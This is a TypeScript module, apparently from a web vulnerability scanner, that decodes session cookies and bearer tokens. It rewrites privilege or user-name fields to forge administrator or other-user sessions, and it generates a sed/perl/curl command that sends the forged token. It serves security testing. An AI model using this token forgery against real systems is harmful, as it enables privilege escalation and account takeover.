import { quoteShell } from '../../../../shared/quoteShell.ts'
import type { Accounts } from '../../../model/probe.ts'
import { decodePercent } from '../../../read/url/decodePercent.ts'
import type { Forgery } from '../_shared/blockCipher.ts'
import type { OwnToken } from './_tokenPlaces.ts'

export type SessionValue = {
  readonly token: OwnToken
  readonly bytes: Buffer
  readonly text: string | null
  /** Completes "the cookie, …". */
  readonly form: 'Base64' | 'hexadecimal' | 'plain text'
  readonly isEncoded: boolean
  readonly isUrl: boolean
  readonly write: (bytes: Buffer) => string
}

const charsMax = 4_000

export function listSessionValues({ headersWith }: Pick<Accounts, 'headersWith'>): readonly SessionValue[] {
  const { cookie = '', authorization = '' } = headersWith('\u0000', '')
  const cookies = cookie.split(/;\s*/).map((pair) => {
    const end = pair.indexOf('=')
    return { place: 'cookie' as const, name: pair.slice(0, end), text: pair.slice(end + 1), path: '/' }
  })
  const bearer = /^bearer\s+(\S+)$/i.exec(authorization)?.[1] ?? ''
  const own = [...cookies, { place: 'header' as const, name: 'authorization', text: bearer, path: '/' }]
  return own.flatMap((token) => decode(token) ?? [])
}

function decode(token: OwnToken): SessionValue | null {
  const raw = decodePercent(token.text)
  if (raw.length < 8 || raw.length > charsMax || /^[\w-]+\.[\w-]+\.[\w-]*$/.test(raw)) return null
  const isEncoded = raw !== token.text
  const isUrl = /[-_]/.test(raw) || raw.length % 4 !== 0
  const decodeAs = (form: SessionValue['form'], encoding: BufferEncoding): SessionValue | null => {
    const bytes = Buffer.from(raw, encoding)
    const write = (all: Buffer) =>
      isEncoded ? encodeURIComponent(all.toString(encoding)) : all.toString(encoding)
    const isWhole = bytes.toString(encoding).toLowerCase() === raw.toLowerCase()
    return isWhole ? { token, bytes, text: readText(bytes), form, isEncoded, isUrl, write } : null
  }
  if (/^(?:[\da-f]{2})+$/i.test(raw)) return decodeAs('hexadecimal', 'hex')
  if (/[{}&;]/.test(raw) && /[:=]/.test(raw)) return decodeAs('plain text', 'utf8')
  return /^[\w+/-]+={0,2}$/.test(raw) ? decodeAs('Base64', isUrl ? 'base64url' : 'base64') : null
}

function readText(bytes: Buffer): string | null {
  const text = bytes.toString('utf8')
  return /^[\x20-\x7e\u00a0-\u024f]+$/.test(text) ? text : null
}

export type ForgedField = {
  readonly name: string
  readonly put: string
  readonly forged: Forgery
  readonly control: Forgery
}

const privilegeName =
  /^(?:is_?|user_?)?(?:admin(?:istrator)?|staff|super_?user|root|role|roles|privilege|permission|group|user_?type|account_?type|access_?level|level)$/i
const nameField = /^(?:user|user_?name|name|login|email|account|sub|uid|u)$/i
const member =
  /(["'])([\w-]{1,40})\1\s{0,3}:\s{0,3}(?:"([^"\\]{0,200})"|'([^'\\]{0,200})'|(true|false|True|False|\d{1,9}))/g
const pair = /(?:^|[;&,|]\s?)([\w-]{1,40})[=:]([^;&,|{}"']{1,200})/g

export function listPrivileges(text: string, word: string): readonly ForgedField[] {
  return readFields(text).flatMap((field) => {
    if (!privilegeName.test(field.name)) return []
    const put = administratorValue(field.value)
    return put === field.value ? [] : [forge(field, put, meaninglessValue(field, word))]
  })
}

export function listNames(
  text: string,
  names: { readonly own: string; readonly other: string; readonly invented: string },
): readonly ForgedField[] {
  return readFields(text)
    .filter(({ name, value }) => nameField.test(name) && value === names.own)
    .map((field) => forge(field, names.other, names.invented))
}

function administratorValue(value: string): string {
  if (value === 'False') return 'True'
  if (/^(?:true|false)$/i.test(value)) return value.toLowerCase() === 'false' ? 'true' : value
  if (/^\d+$/.test(value)) return value === '0' ? '1' : '0'
  return 'admin'
}

/** Any other value of a flag counts as true. */
function meaninglessValue({ value, kind }: Field, word: string): string {
  if (kind === 'literal' && /^(?:false|0)$/i.test(value)) return value === 'False' ? 'None' : 'null'
  return /^\d+$/.test(value) ? '739041' : word
}

type Field = { readonly name: string; readonly value: string; readonly kind: 'text' | 'literal' | 'pair' }

function readFields(text: string): readonly Field[] {
  const members = [...text.matchAll(member)].map(([, , name = '', double, single, literal]): Field => {
    const isLiteral = literal !== undefined
    return { name, value: double ?? single ?? literal ?? '', kind: isLiteral ? 'literal' : 'text' }
  })
  if (members.length > 0) return members
  return [...text.matchAll(pair)].map(([, name = '', value = '']): Field => ({ name, value, kind: 'pair' }))
}

function forge(field: Field, put: string, control: string): ForgedField {
  return { name: field.name, put, forged: replaceField(field, put), control: replaceField(field, control) }
}

function replaceField({ name, kind }: Field, put: string): Forgery {
  const quoted = kind === 'text' || (kind === 'literal' && !/^(?:true|false|null|none|\d+)$/i.test(put))
  const start = kind === 'pair' ? `((?:^|[;&,|]\\s?)${name}[=:])` : `(["']${name}["']\\s*:\\s*)`
  const old = kind === 'pair' ? '[^;&,|]*' : `(?:"[^"]*"|'[^']*'|\\w+)`
  const value = quoted ? `"${put}"` : put
  return {
    apply: (bytes) =>
      Buffer.from(
        bytes.toString('utf8').replace(new RegExp(start + old), (_, before) => `${before}${value}`),
      ),
    perl: `s/${start}${old}/\${1}${value.replaceAll(/[\\/$@]/g, '\\$&')}/`,
  }
}

export function forgeCommand(
  { token, form, isEncoded, isUrl }: SessionValue,
  { perl }: Forgery,
  url: string,
): string {
  const decode = {
    Base64: 'tr|-_|+/|;$_=decode_base64($_)',
    hexadecimal: '$_=pack("H*",$_)',
    'plain text': '',
  }[form]
  const encode = {
    Base64: `$_=encode_base64($_,"")${isUrl ? ';tr|+/|-_|;s/=+$//' : ''}`,
    hexadecimal: '$_=unpack("H*",$_)',
    'plain text': '',
  }[form]
  const script = [
    's/%([\\da-fA-F]{2})/chr hex $1/ge',
    decode,
    perl,
    encode,
    ...(isEncoded ? ['s/([^\\w.-])/sprintf "%%%02X",ord $1/ge'] : []),
  ]
  const isCookie = token.place === 'cookie'
  const name = token.name.replaceAll(/[.[\]*^$/\\]/g, '\\$&')
  const own = isCookie ? `sed ${quoteShell(`s/^.*[ ;]${name}=//; s/;.*$//`)}` : `sed 's/^.*earer //'`
  const header = isCookie ? `cookie: ${token.name}=` : 'authorization: Bearer '
  return [
    `TOKEN="$(printf %s "$SESSION_A" | ${own})"`,
    `FORGED="$(printf %s "$TOKEN" | perl -MMIME::Base64 -pe ${quoteShell(script.filter((line) => line !== '').join(';'))})"`,
    `curl -i --path-as-is -H ${quoteShell(header)}"$FORGED" ${quoteShell(url)}`,
  ].join('\n')
}
